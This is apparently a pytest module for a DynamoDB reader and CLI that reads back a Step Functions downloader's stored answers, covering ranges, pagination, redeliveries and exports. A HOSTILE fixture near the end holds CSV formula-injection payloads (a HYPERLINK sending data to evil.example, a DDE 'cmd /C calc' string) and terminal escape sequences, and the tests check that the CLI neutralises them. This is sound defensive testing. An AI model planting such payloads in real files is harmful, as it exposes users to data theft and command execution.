"""sfn_downloader.read: a downloader's answers read back with Query, over local runs of the example.

The EVE example's player count (one answer a run), X-Pages pagination and a fan-out over three
regions run on moto against a loopback stand-in; ``runner.table()`` reads what they
stored through ``DownloaderTable``, the same Queries a deployed table gets.
"""

from __future__ import annotations

import csv
import importlib.util
import io
import json
import os
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack
from datetime import UTC, datetime, timedelta, timezone
from decimal import Decimal
from pathlib import Path
from typing import Any

import aws_cdk as cdk
import pytest

from local_helpers import Answer, Seen, Upstream, running_upstream
from sfn_downloader.local import LocalExecution, LocalRunner
from sfn_downloader.read import DownloaderTable

from scenarios import build_fanout, build_pages

EXAMPLE = Path(__file__).parent.parent / "examples" / "eve_player_count" / "app.py"
T0 = datetime(2026, 11, 27, 5, 0, tzinfo=UTC)
MINUTES = 10


def at(minute: int) -> str:
    return (T0 + timedelta(minutes=minute)).strftime("%Y-%m-%dT%H:%M:%SZ")


class CountingClient:
    """A DynamoDB client that records every Query request it passes on."""

    def __init__(self, client: Any) -> None:
        self._client = client
        self.queries: list[dict[str, Any]] = []

    def query(self, **request: Any) -> Any:
        self.queries.append(request)
        return self._client.query(**request)


@pytest.fixture(scope="module")
def app() -> cdk.App:
    spec = importlib.util.spec_from_file_location("eve_app_read", EXAMPLE)
    assert spec and spec.loader
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    app = cdk.App()
    module.EvePlayerCountStack(app, "EvePlayerCount")
    # Pages from a stack of their own: run side by side with the player count, the example's
    # market types would create the table the two share a second time.
    build_pages(cdk.Stack(app, "Pages"))
    build_fanout(cdk.Stack(app, "Fanout"))
    return app


def answer(seen: Seen) -> Answer:
    if "/orders/" in seen.path:  # the fan-out's regions, and the pages of one of them
        page = int(seen.query.get("page", ["1"])[0])
        return Answer(200, [{"region": seen.path.split("/")[3], "page": page}],
                      headers={"X-Pages": "12"})  # fmt: skip
    return Answer(200, {"players": 30_000 + int(time.time() * 1000) % 7, "server_version": "1"})


@pytest.fixture(scope="module")
def upstream() -> Iterator[Upstream]:
    with running_upstream() as server:
        server.respond(answer)
        yield server


@pytest.fixture(scope="module")
def runners(app: cdk.App, upstream: Upstream) -> Iterator[dict[str, LocalRunner]]:
    """The example's player count (one answer a run), X-Pages pages and a fan-out over three
    regions, each run and left open for the module's reads."""
    with ExitStack() as exits:
        opened = {
            name: exits.enter_context(LocalRunner(app, upstream=upstream.url, pattern=path))
            for name, path in (
                ("players", "EvePlayerCount/PlayerCount"),
                ("pages", "Pages/Orders"),
                ("fanout", "Fanout/Markets"),
            )
        }
        for minute in range(MINUTES):
            assert opened["players"].run(at(minute)).succeeded
        for minute in (0, 1):
            assert opened["pages"].run(at(minute)).succeeded
        assert opened["fanout"].run(at(0)).succeeded
        yield opened


@pytest.fixture(scope="module")
def players(runners: dict[str, LocalRunner]) -> DownloaderTable:
    return runners["players"].table()


def sks(items: Any) -> list[str]:
    return [item["sk"] for item in items]


# --- time ranges ------------------------------------------------------------------------------


def test_a_range_is_start_included_end_excluded_in_time_order(players: DownloaderTable) -> None:
    items = players.between(at(2), at(7)).to_rows()

    assert sks(items) == [at(m) for m in range(2, 7)]
    assert all(item["pk"] == "eve/player-count" for item in items)
    assert all(isinstance(item["count"], int) for item in items)


def test_consecutive_ranges_neither_overlap_nor_leave_a_gap(players: DownloaderTable) -> None:
    first, second = players.between(at(0), at(4)), players.between(at(4), at(MINUTES))

    assert sks(first) + sks(second) == [at(m) for m in range(MINUTES)]


def test_times_may_be_datetimes_offsets_or_fractions(players: DownloaderTable) -> None:
    paris = datetime(2026, 11, 27, 6, 3, tzinfo=timezone(timedelta(hours=1))).isoformat()
    naive = (T0 + timedelta(minutes=1)).replace(tzinfo=None)

    assert sks(players.between(naive, paris)) == [at(1), at(2)]
    # 05:00:00.5 rounds up to 05:00:01: the run at 05:00:00 is before it.
    assert sks(players.between("2026-11-27T05:00:00.5Z", at(2))) == [at(1)]
    assert sks(players.between("2026-11-27T06:00:00+01:00", at(1))) == [at(0)]


def test_more_than_one_result_page_one_query_each(runners: dict[str, LocalRunner]) -> None:
    runner = runners["players"]
    spy = CountingClient(runner.table()._client)
    small = DownloaderTable(
        runner.table().table_name, downloader_id="eve/player-count", client=spy, page_size=3
    )

    items = small.between(at(0), at(MINUTES)).to_rows()

    assert sks(items) == [at(m) for m in range(MINUTES)]
    # 10 items, 3 a page: 4 pages; the last LastEvaluatedKey-less answer ends the loop.
    assert len(spy.queries) == 4
    assert [q.get("ExclusiveStartKey", {}).get("sk", {}).get("S") for q in spy.queries] == [
        None, at(2), at(5), at(8),
    ]  # fmt: skip
    assert all(q["Limit"] == 3 for q in spy.queries)


def test_an_empty_range_and_a_range_without_runs(players: DownloaderTable) -> None:
    spy = CountingClient(players._client)
    table = DownloaderTable(players.table_name, downloader_id="eve/player-count", client=spy)

    assert table.between(at(3), at(3)).to_rows() == []
    assert spy.queries == []  # nothing to ask DynamoDB
    assert table.between(at(60), at(120)).to_rows() == []
    assert DownloaderTable(
        players.table_name, downloader_id="eve/nobody", client=spy
    ).between(at(0), at(MINUTES)).to_rows() == []  # fmt: skip


def test_bad_ranges_are_refused(players: DownloaderTable) -> None:
    with pytest.raises(ValueError, match=r"start 2026-11-27T05:05:00Z is after end"):
        players.between(at(5), at(1))
    with pytest.raises(ValueError, match=r"start 'yesterday' is not an ISO 8601 time"):
        players.between("yesterday", at(1))
    with pytest.raises(TypeError, match="end 1700000000 is not a datetime or ISO 8601"):
        players.between(at(0), 1700000000)  # type: ignore[arg-type]


# --- several answers a run --------------------------------------------------------------------


def test_pages_of_a_run_are_in_its_range_and_the_next_run_is_not(
    runners: dict[str, LocalRunner],
) -> None:
    orders = runners["pages"].table()

    first = sks(orders.between(at(0), at(1)))

    run = orders.between(at(0), at(1)).to_rows()[0]["run"]  # the delivery's execution name
    pages = [f"{at(0)}#{run}#{n}" for n in range(1, 13)]
    assert first == sorted(pages)  # key order: #10, #11, #12 sort before #2
    assert len(sks(orders.between(at(0), at(2)))) == 24  # completion items never come back
    assert sks(orders.pages(at(0))) == pages  # page order


def test_fan_out_paths_of_a_run(runners: dict[str, LocalRunner]) -> None:
    markets = runners["fanout"].table()

    items = markets.between(at(0), at(1)).to_rows()

    regions, run = (10000002, 10000032, 10000043), items[0]["run"]
    assert sks(items) == [f"{at(0)}#{run}#/v1/markets/{r}/orders/?order_type=all" for r in regions]
    assert sks(markets.pages(at(0))) == sks(items)
    assert markets.pages(at(1)) == []


def test_pages_returns_the_newest_delivery_consistent_set(
    runners: dict[str, LocalRunner],
) -> None:
    """Items written before completion items (0.1, 0.2, keys without a delivery) are read as
    before: a re-delivery whose page count shrank leaves the older delivery's page 3 out."""
    runner = runners["pages"]
    table = runner.table()
    client = table._client
    t = at(30)

    def put(page: int, **extra: str) -> None:
        item = {"pk": {"S": table.downloader_id}, "sk": {"S": f"{t}#{page}"},
                "orders": {"S": "[]"}}  # fmt: skip
        item |= {name: {"S": value} for name, value in extra.items()}
        client.put_item(TableName=table.table_name, Item=item)

    for page in (1, 2, 3):  # written by 0.2: no delivery attributes
        put(page)
    assert sks(table.pages(t)) == [f"{t}#{n}" for n in (1, 2, 3)]
    for page in (1, 2, 3):  # the first delivery
        put(page, run="exec-a", runStartedAt="2026-11-27T05:30:01.100Z")
    for page in (1, 2):  # its re-delivery, one page fewer, overwriting pages 1 and 2
        put(page, run="exec-b", runStartedAt="2026-11-27T05:30:02.900Z")

    newest = table.pages(t)

    assert sks(newest) == [f"{t}#1", f"{t}#2"]
    assert {item["run"] for item in newest} == {"exec-b"}
    assert len(table.between(t, at(31)).to_rows()) == 3  # between returns what is stored


def test_a_delivery_keyed_run_reads_back_in_page_order(runners: dict[str, LocalRunner]) -> None:
    """With ``incremental``, a run's pages are ``<time>#<execution name>#<page>`` (each delivery
    its own): ``pages`` puts #2 before #10 within the delivery, as for plain pages."""
    table = runners["pages"].table()
    t = at(35)
    marks = {"run": {"S": "exec-a"}, "runStartedAt": {"S": "2026-11-27T05:30:01.100Z"}}
    for page in (1, 2, 10):
        table._client.put_item(TableName=table.table_name, Item={
            "pk": {"S": table.downloader_id}, "sk": {"S": f"{t}#exec-a#{page}"}, **marks,
        })  # fmt: skip
    assert table.pages(t) == []  # not completed: never a set
    table._client.put_item(TableName=table.table_name, Item={
        "pk": {"S": table.downloader_id}, "sk": {"S": f"#delivered#{t}#exec-a"}, **marks,
    })  # fmt: skip
    assert sks(table.pages(t)) == [f"{t}#exec-a#{n}" for n in (1, 2, 10)]


def test_pages_after_a_local_redelivery_whose_page_count_shrank(
    runners: dict[str, LocalRunner], upstream: Upstream
) -> None:
    """The same scheduled time delivered twice, 3 pages then 2: each delivery keeps its own
    pages, and ``pages`` returns the second delivery's two pages only."""
    runner, t = runners["pages"], at(40)
    announced = {"pages": "3"}

    def shrinking(seen: Seen) -> Answer:
        page = int(seen.query.get("page", ["1"])[0])
        return Answer(200, [{"page": page}], headers={"X-Pages": announced["pages"]})

    upstream.respond(shrinking)
    try:
        assert runner.run(t).succeeded
        announced["pages"] = "2"
        again = runner.run(t)
    finally:
        upstream.respond(answer)
    assert again.succeeded, again.cause

    newest = runner.table().pages(t)

    assert sks(newest) == [f"{t}#{again.name}#1", f"{t}#{again.name}#2"]
    assert {item["run"] for item in newest} == {again.name}
    assert len(runner.table().between(t, at(41)).to_rows()) == 5  # both deliveries' pages


# --- what never comes back, and what comes back exactly ---------------------------------------


def test_the_state_item_is_never_returned(runners: dict[str, LocalRunner]) -> None:
    table = runners["players"].table()
    client = table._client
    for pk in ("eve/player-count", "eve/state-only"):
        client.put_item(TableName=table.table_name, Item={
            "pk": {"S": pk}, "sk": {"S": "#state"}, "highWaterMark": {"S": at(9)},
        })  # fmt: skip
    try:
        everything = table.between("0001-01-01T00:00:00Z", "9999-12-31T23:59:59Z").to_rows()
        assert "#state" not in sks(everything) and len(everything) == MINUTES
        assert table.latest() == table.between(at(MINUTES - 1), at(MINUTES)).to_rows()[0]
        alone = DownloaderTable(table.table_name, downloader_id="eve/state-only", client=client)
        assert alone.latest() is None
        assert alone.between(at(0), at(99)).to_rows() == [] and alone.pages(at(0)) == []
    finally:
        for pk in ("eve/player-count", "eve/state-only"):
            client.delete_item(TableName=table.table_name,
                               Key={"pk": {"S": pk}, "sk": {"S": "#state"}})  # fmt: skip


def test_numbers_come_back_exact_and_expired_items_are_left_out(
    runners: dict[str, LocalRunner],
) -> None:
    table = runners["players"].table()
    client = table._client
    pk = {"S": "eve/numbers"}
    client.put_item(TableName=table.table_name, Item={
        "pk": pk, "sk": {"S": at(0)}, "big": {"N": "12345678901234567890123456789012345678"},
        "price": {"N": "0.1"}, "ids": {"NS": ["1", "2.5"]}, "ok": {"BOOL": True},
        "tags": {"L": [{"S": "a"}, {"N": "3"}]}, "expiresAt": {"N": str(int(time.time()) + 3600)},
    })  # fmt: skip
    client.put_item(TableName=table.table_name, Item={
        "pk": pk, "sk": {"S": at(1)}, "expiresAt": {"N": str(int(time.time()) - 60)},
    })  # fmt: skip
    numbers = DownloaderTable(table.table_name, downloader_id="eve/numbers", client=client)

    [item] = numbers.between(at(0), at(5)).to_rows()

    assert item["big"] == 12345678901234567890123456789012345678
    assert type(item["big"]) is int
    assert item["price"] == Decimal("0.1") and isinstance(item["price"], Decimal)
    assert item["ids"] == {1, Decimal("2.5")}
    assert item["ok"] is True and item["tags"] == ["a", 3]
    assert numbers.latest() == item  # the expired newer one is left out
    kept = DownloaderTable(
        table.table_name, downloader_id="eve/numbers", client=client, include_expired=True
    )
    assert sks(kept.between(at(0), at(5))) == [at(0), at(1)]


def test_to_dataframe_is_indexed_by_scheduled_time(players: DownloaderTable) -> None:
    frame = players.between(at(0), at(3)).to_dataframe()

    assert list(frame.index.strftime("%H:%M")) == ["05:00", "05:01", "05:02"]
    assert str(frame.index.tz) == "UTC" and frame.index.name == "scheduledTime"
    assert list(frame["sk"]) == [at(0), at(1), at(2)]
    assert frame["count"].between(30_000, 30_006).all()
    assert players.between(at(50), at(51)).to_dataframe().empty


def test_latest_is_the_newest_run(players: DownloaderTable) -> None:
    latest = players.latest()

    assert latest is not None and latest["sk"] == at(MINUTES - 1)


def test_bad_table_arguments_are_refused() -> None:
    with pytest.raises(ValueError, match="downloader_id '' must be the downloader's"):
        DownloaderTable("T", downloader_id="", client=object())
    with pytest.raises(ValueError, match="page_size 0 must be a positive integer"):
        DownloaderTable("T", downloader_id="x", client=object(), page_size=0)


def test_the_reader_imports_no_aws_cdk_lib() -> None:
    """A plain script: importing and using the reader loads neither aws-cdk-lib nor moto."""
    code = (
        "import sys; from sfn_downloader.read import DownloaderTable; "
        "DownloaderTable('T', downloader_id='x', region_name='us-east-1'); "
        "print(sorted({m.split('.')[0] for m in sys.modules} & {'aws_cdk', 'jsii', 'moto'}))"
    )
    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True)
    assert json.loads(result.stdout.replace("'", '"')) == []


# --- the command line -------------------------------------------------------------------------


def cli(*args: str, **kwargs: Any) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "sfn_downloader.read", *args],
        capture_output=True, text=True, check=False, **kwargs,
    )  # fmt: skip


def read_main(players: DownloaderTable, *args: str) -> int:
    from sfn_downloader.read.__main__ import main

    return main([players.table_name, "--downloader-id", "eve/player-count", *args],
                client=players._client)  # fmt: skip


def test_cli_exports_a_range_as_csv(
    players: DownloaderTable, capsys: pytest.CaptureFixture[str]
) -> None:
    status = read_main(players, "--from", at(1), "--to", at(4), "--format", "csv")

    out, err = capsys.readouterr()
    assert (status, err) == (0, "")  # no progress bar: stderr is not a terminal
    rows = list(csv.DictReader(io.StringIO(out)))
    assert list(rows[0])[:2] == ["pk", "sk"]
    assert [row["sk"] for row in rows] == [at(1), at(2), at(3)]
    expected = players.between(at(1), at(4)).to_rows()
    assert [int(row["count"]) for row in rows] == [item["count"] for item in expected]


def test_cli_exports_jsonl_with_exact_numbers(
    players: DownloaderTable, capsys: pytest.CaptureFixture[str]
) -> None:
    client = players._client
    client.put_item(TableName=players.table_name, Item={
        "pk": {"S": "eve/player-count"}, "sk": {"S": at(20)},
        "count": {"N": "31000"}, "ratio": {"N": "0.123456789012345678901234567890"},
    })  # fmt: skip
    try:
        status = read_main(players, "--from", at(9), "--to", at(21))
        out, _ = capsys.readouterr()
    finally:
        client.delete_item(TableName=players.table_name,
                           Key={"pk": {"S": "eve/player-count"}, "sk": {"S": at(20)}})  # fmt: skip

    assert status == 0
    lines = [json.loads(line, parse_float=Decimal) for line in out.splitlines()]
    assert [line["sk"] for line in lines] == [at(9), at(20)]
    assert lines[1]["ratio"] == Decimal("0.123456789012345678901234567890")
    assert lines[1]["count"] == 31000


def test_cli_progress_bar_only_on_a_terminal(
    players: DownloaderTable, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    terminal = Terminal()
    monkeypatch.setattr(sys, "stderr", terminal)

    assert read_main(players, "--from", at(0), "--to", at(MINUTES)) == 0

    assert len(capsys.readouterr().out.splitlines()) == MINUTES
    assert "reading:" in terminal.getvalue() and "/600 " in terminal.getvalue()  # 10 minutes


@pytest.mark.slow  # draws a picture
def test_cli_draws_a_chart(players: DownloaderTable, tmp_path: Path,
                           capsys: pytest.CaptureFixture[str]) -> None:  # fmt: skip
    out = tmp_path / "charts" / "players.png"

    status = read_main(players, "--from", at(0), "--to", at(MINUTES),
                       "chart", "--field", "count", "--out", str(out))  # fmt: skip

    assert status == 0, capsys.readouterr().err
    assert out.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    assert capsys.readouterr().err.strip() == f"{out}: {MINUTES} points"
    assert read_main(players, "--from", at(0), "--to", at(1),
                     "chart", "--field", "serverVersion", "--out", str(out)) == 1  # fmt: skip
    assert "is '1', not a number" in capsys.readouterr().err


def test_cli_latest(players: DownloaderTable, capsys: pytest.CaptureFixture[str]) -> None:
    assert read_main(players, "latest") == 0

    assert json.loads(capsys.readouterr().out)["sk"] == at(MINUTES - 1)


@pytest.mark.slow  # a CLI subprocess each
@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["T", "--from", "2026-11-27T05:00:00Z", "--to", "2026-11-27T06:00:00Z"],
         "the following arguments are required: --downloader-id"),
        (["T", "--downloader-id", "x", "--to", "2026-11-27T06:00:00Z"], "export needs --from"),
        (["T", "--downloader-id", "x", "--from", "noon", "--to", "2026-11-27T06:00:00Z"],
         "--from 'noon' is not an ISO 8601 time"),
        (["T", "--downloader-id", "x", "--from", "2026-11-27T07:00:00Z",
          "--to", "2026-11-27T06:00:00Z"], "--from 2026-11-27T07:00:00Z is after --to"),
        (["T", "--downloader-id", "x", "--from", "2026-11-27T05:00:00Z",
          "--to", "2026-11-27T06:00:00Z", "chart", "--field", "count"],
         "chart needs --field and --out"),
        (["T", "--downloader-id", "x", "--from", "2026-11-27T05:00:00Z",
          "--to", "2026-11-27T06:00:00Z", "--format", "xml"], "argument --format: invalid choice"),
        (["T", "draw", "--downloader-id", "x"], "argument command: invalid choice: 'draw'"),
        (["T", "--downloader-id", "x", "--from", "9999-12-31T23:59:59.5Z",
          "--to", "9999-12-31T23:59:59Z"], "is outside the years 1 to 9999"),
        (["T", "--downloader-id", "x", "--from", "0001-01-01T00:00:00+01:00",
          "--to", "2026-11-27T06:00:00Z"], "is outside the years 1 to 9999"),
    ],
)  # fmt: skip
def test_cli_bad_arguments_exit_2_with_one_line(args: list[str], message: str) -> None:
    result = cli(*args)

    assert result.returncode == 2
    assert result.stdout == ""
    [line] = result.stderr.splitlines()
    assert line.startswith("python -m sfn_downloader.read: error: ") and message in line


@pytest.mark.slow  # a CLI subprocess
def test_cli_a_failed_read_exits_1_with_one_line() -> None:
    result = cli("NoSuchTable", "--downloader-id", "x", "--from", "2026-11-27T05:00:00Z",
                 "--to", "2026-11-27T06:00:00Z", "--region", "us-east-1",
                 env={"PATH": os.environ.get("PATH", ""), "AWS_ACCESS_KEY_ID": "",
                      "AWS_SECRET_ACCESS_KEY": "", "AWS_CONFIG_FILE": "/nonexistent",
                      "AWS_SHARED_CREDENTIALS_FILE": "/nonexistent",
                      "AWS_EC2_METADATA_DISABLED": "true"})  # fmt: skip

    assert result.returncode == 1
    [line] = result.stderr.splitlines()
    assert line.startswith("python -m sfn_downloader.read: NoCredentialsError: ")


def test_public_surface_of_the_reader() -> None:
    import sfn_downloader.read

    assert sfn_downloader.read.__all__ == ["DownloaderTable", "Items", "RecordItems"]


def test_latest_reads_a_few_items_not_a_megabyte(players: DownloaderTable) -> None:
    spy = CountingClient(players._client)
    table = DownloaderTable(players.table_name, downloader_id="eve/player-count", client=spy)

    latest = table.latest()

    assert latest is not None and latest["sk"] == at(MINUTES - 1)
    [query] = spy.queries
    assert (query["Limit"], query["ScanIndexForward"]) == (10, False)


# --- third-party text, and keys that are not answers (issue 26, 6) -----------------------------

HOSTILE = {
    "formula": '=HYPERLINK("https://evil.example/?d="&A1,"click")',
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "escape": "\x1b]0;owned\x07\x1b[2J\x9b31mred\u202egnp.exe",
}


@pytest.fixture
def hostile(players: DownloaderTable) -> Iterator[str]:
    """One stored answer of third-party text at minute 30, deleted afterwards."""
    client, key = players._client, {"pk": {"S": "eve/player-count"}, "sk": {"S": at(30)}}
    item = {**key, "count": {"N": "-5"}, **{k: {"S": v} for k, v in HOSTILE.items()}}
    client.put_item(TableName=players.table_name, Item=item)
    yield at(30)
    client.delete_item(TableName=players.table_name, Key=key)


def test_cli_csv_cells_a_spreadsheet_would_run_are_text(
    players: DownloaderTable, hostile: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert read_main(players, "--from", hostile, "--to", at(31), "--format", "csv") == 0
    [row] = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert row["formula"] == "'" + HOSTILE["formula"]
    assert row["at"] == "'" + HOSTILE["at"]
    assert row["count"] == "-5"  # a number stays a number


@pytest.mark.parametrize("form", ["csv", "jsonl"])
def test_cli_on_a_terminal_control_characters_are_shown_escaped(
    players: DownloaderTable, hostile: str, form: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    terminal = Terminal()
    monkeypatch.setattr(sys, "stdout", terminal)
    assert read_main(players, "--from", hostile, "--to", at(31), "--format", form) == 0
    shown = terminal.getvalue()
    assert not any((ord(c) < 32 and c != "\n") or 0x7F <= ord(c) <= 0x9F for c in shown)
    assert "\u202e" not in shown and "\\u202e" in shown
    assert "\\x9b31mred" in shown


def test_only_keys_the_downloader_writes_are_read(players: DownloaderTable) -> None:
    """Another writer's items in the partition: a key after every time, a time with junk, an
    impossible time. latest() and between() never take them for answers."""
    client = players._client
    keys = ["zzz", "~", "9999-99-99T99:99:99Z", at(5)[:-1] + "Y", at(5) + "junk"]
    for key in keys:
        client.put_item(TableName=players.table_name,
                        Item={"pk": {"S": "eve/player-count"}, "sk": {"S": key}})  # fmt: skip
    try:
        latest = players.latest()
        assert latest is not None and latest["sk"] == at(MINUTES - 1)
        assert sks(players.between(at(4), at(6))) == [at(4), at(5)]
    finally:
        for key in keys:
            client.delete_item(TableName=players.table_name,
                               Key={"pk": {"S": "eve/player-count"}, "sk": {"S": key}})  # fmt: skip


def test_a_time_past_year_9999_is_a_value_error(players: DownloaderTable) -> None:
    with pytest.raises(ValueError, match="outside the years 1 to 9999"):
        players.between("9999-12-31T23:59:59.5Z", "9999-12-31T23:59:59Z")


# --- exact reads: overlapping and aborted deliveries (issue 26, round 3) ----------------------


def overlapping(
    runner: LocalRunner,
    t: str,
    upstream: Upstream,
    slow_first: Callable[[Seen], Answer],
    gate: threading.Event,
) -> tuple[LocalExecution, LocalExecution]:
    """Two deliveries of ``t`` at once: the first held by ``slow_first`` (which sets ``gate``
    when it holds), the second started then, finishing first. Both must succeed."""
    upstream.respond(slow_first)
    results: list[LocalExecution] = []
    try:
        first = threading.Thread(target=lambda: results.append(runner.run(t)))
        first.start()
        assert gate.wait(timeout=120)
        second = runner.run(t)  # starts later, finishes first
        first.join(timeout=300)
    finally:
        upstream.respond(answer)
    (slow,) = results
    assert (slow.status, second.status) == ("SUCCEEDED", "SUCCEEDED"), slow.cause
    return slow, second


def test_two_overlapping_deliveries_read_back_whole(
    runners: dict[str, LocalRunner], upstream: Upstream
) -> None:
    """Two executions of one scheduled time at once, the first one slow: it starts first and
    finishes last (0.2: its pages overwrote the second's keys, and the set read back was 1 page
    of 3). Each delivery keeps its own pages; ``pages`` returns the whole set of the newest
    completed delivery, never a mix."""
    runner, t = runners["pages"], at(50)
    gate = threading.Event()

    def slow_first(seen: Seen) -> Answer:
        page = int(seen.query.get("page", ["1"])[0])
        if page == 1 and not gate.is_set():  # the first delivery's first page waits
            gate.set()
            time.sleep(2.0)
        return Answer(200, [{"page": page}], headers={"X-Pages": "3"})

    slow, second = overlapping(runner, t, upstream, slow_first, gate)
    table = runner.table(consistent_read=True)
    stored = table.between(t, at(51)).to_rows()
    assert sorted(sks(stored)) == sorted(
        f"{t}#{name}#{n}" for name in (slow.name, second.name) for n in (1, 2, 3)
    )  # six pages: neither delivery overwrote the other
    consistent = table.pages(t)
    assert len(consistent) == 3 and len({item["run"] for item in consistent}) == 1
    newest = max(stored, key=lambda item: item["runStartedAt"])["run"]
    assert sks(consistent) == [f"{t}#{newest}#{n}" for n in (1, 2, 3)]


def test_an_aborted_delivery_never_reads_back_as_a_set(
    runners: dict[str, LocalRunner], upstream: Upstream
) -> None:
    """A delivery whose page 3 fails after page 1 and 2 are stored: no completion item, so
    ``pages`` is ``[]`` (0.2 returned the two pages as the run's set); a later delivery that
    completes is the set, and the aborted one's pages stay out of it."""
    runner, t = runners["pages"], at(55)

    def failing_page_3(seen: Seen) -> Answer:
        page = int(seen.query.get("page", ["1"])[0])
        if page == 3:
            return Answer(400, {"error": "bad page"})
        return Answer(200, [{"page": page}], headers={"X-Pages": "3"})

    upstream.respond(failing_page_3)
    try:
        aborted = runner.run(t)
    finally:
        upstream.respond(answer)
    assert aborted.status == "FAILED"
    table = runner.table(consistent_read=True)
    assert sorted(sks(table.between(t, at(56)))) == [f"{t}#{aborted.name}#{n}" for n in (1, 2)]
    assert table.pages(t) == []

    upstream.respond(lambda seen: Answer(
        200, [{"page": int(seen.query.get("page", ["1"])[0])}], headers={"X-Pages": "3"}
    ))  # fmt: skip
    try:
        completed = runner.run(t)
    finally:
        upstream.respond(answer)
    assert completed.succeeded, completed.cause
    assert sks(table.pages(t)) == [f"{t}#{completed.name}#{n}" for n in (1, 2, 3)]


def test_a_chart_draws_one_line_per_page_whatever_the_delivery() -> None:
    """``answer_suffix``: the delivery's execution name is not part of what an answer is."""
    from sfn_downloader.read._values import answer_suffix

    assert answer_suffix({"sk": f"{at(0)}#run-1#2", "run": "run-1"}) == "2"
    assert answer_suffix({"sk": f"{at(0)}#run-1#/v1/a#3", "run": "run-1"}) == "/v1/a#3"
    assert answer_suffix({"sk": f"{at(0)}#run-1", "run": "run-1"}) is None
    assert answer_suffix({"sk": f"{at(0)}#2"}) == "2"  # 0.2's keys
    assert answer_suffix({"sk": at(0)}) is None


def test_two_overlapping_deliveries_of_a_fan_out_read_back_whole(
    runners: dict[str, LocalRunner], upstream: Upstream
) -> None:
    """A fan-out delivered twice at once, the first delivery's first path held so that it
    starts first and finishes last (0.2: both wrote ``<t>#<path>``, and the set read back
    mixed the two deliveries' answers). Each delivery keeps its own paths, marks itself
    complete, and ``pages`` returns the three paths of one delivery: the newest."""
    runner, t = runners["fanout"], at(60)
    gate = threading.Event()

    def slow_first(seen: Seen) -> Answer:
        region = seen.path.split("/")[3]
        if not gate.is_set():  # the first delivery's first request waits
            gate.set()
            time.sleep(2.0)
        return Answer(200, [{"region": region, "page": 1}])

    slow, second = overlapping(runner, t, upstream, slow_first, gate)
    table = runner.table(consistent_read=True)
    stored = table.between(t, at(61)).to_rows()
    regions = (10000002, 10000032, 10000043)
    paths = [f"/v1/markets/{r}/orders/?order_type=all" for r in regions]
    assert sorted(sks(stored)) == sorted(
        f"{t}#{name}#{path}" for name in (slow.name, second.name) for path in paths
    )  # six items: neither delivery overwrote the other's paths
    completed = [
        item["run"] for item in runner.items() if item["sk"].startswith(f"#delivered#{t}#")
    ]
    assert sorted(completed) == sorted([slow.name, second.name])
    consistent = table.pages(t)
    newest = max(stored, key=lambda item: item["runStartedAt"])["run"]
    assert newest == second.name  # started last (finished first)
    assert sks(consistent) == [f"{t}#{second.name}#{path}" for path in paths]


def test_a_stopped_delivery_never_reads_back_as_a_set(
    runners: dict[str, LocalRunner], upstream: Upstream
) -> None:
    """A delivery stopped halfway (``StopExecution``: ABORTED) after its first page is stored
    writes no completion item: ``pages`` is ``[]`` (0.2: the stored pages read back as the
    run's whole set), and the aborted pages stay out of a later delivery's set."""
    runner, t = runners["pages"], at(65)
    held, release = threading.Event(), threading.Event()

    def hold_page_2(seen: Seen) -> Answer:
        page = int(seen.query.get("page", ["1"])[0])
        if page == 2:
            held.set()
            release.wait(timeout=60)
        return Answer(200, [{"page": page}], headers={"X-Pages": "3"})

    upstream.respond(hold_page_2)
    results: list[LocalExecution] = []
    sfn = runner._client("stepfunctions")
    try:
        started = threading.Thread(target=lambda: results.append(runner.run(t)))
        started.start()
        assert held.wait(timeout=120)
        running = sfn.list_executions(
            stateMachineArn=runner._state_machine_arn, statusFilter="RUNNING"
        )["executions"]
        (execution,) = running
        sfn.stop_execution(executionArn=execution["executionArn"], error="Operator.Stop")
        release.set()
        started.join(timeout=300)
    finally:
        release.set()
        upstream.respond(answer)
    (stopped,) = results
    # AWS: ABORTED, no state after the stop. moto 5.2.5 runs the next task after a stop, which
    # fails (DynamoDB.AmazonDynamoDBException): FAILED here. Either way the delivery stopped
    # before its pages ended, and it never reached MarkDelivered.
    assert stopped.status in ("ABORTED", "FAILED"), stopped.cause
    assert "MarkDelivered" not in _settled_history(runner, stopped)
    table = runner.table(consistent_read=True)
    assert f"{t}#{stopped.name}#1" in sks(table.between(t, at(66)))  # page 1 was stored
    assert not [i for i in runner.items() if i["sk"].startswith(f"#delivered#{t}#")]
    assert table.pages(t) == []

    upstream.respond(lambda seen: Answer(
        200, [{"page": int(seen.query.get("page", ["1"])[0])}], headers={"X-Pages": "3"}
    ))  # fmt: skip
    try:
        again = runner.run(t)
    finally:
        upstream.respond(answer)
    assert again.succeeded, again.cause
    assert sks(table.pages(t)) == [f"{t}#{again.name}#{n}" for n in (1, 2, 3)]


def _settled_history(runner: LocalRunner, execution: LocalExecution) -> list[str]:
    """The states ``execution`` entered, read once moto's threads are done with it: after a
    stop, moto 5.2.5 goes on running the iteration's next task in the background, and a
    history read while it appends an event can meet a half-written one (moto's serializer
    then raises ``TypeError``). Read until two reads agree."""
    last: list[str] | None = None
    for _ in range(20):
        try:
            entered = runner.states_entered(execution)
        except TypeError:
            time.sleep(0.25)
            continue
        if entered == last:
            return entered
        last = entered
        time.sleep(0.25)
    assert last is not None, "the history never read back"
    return last
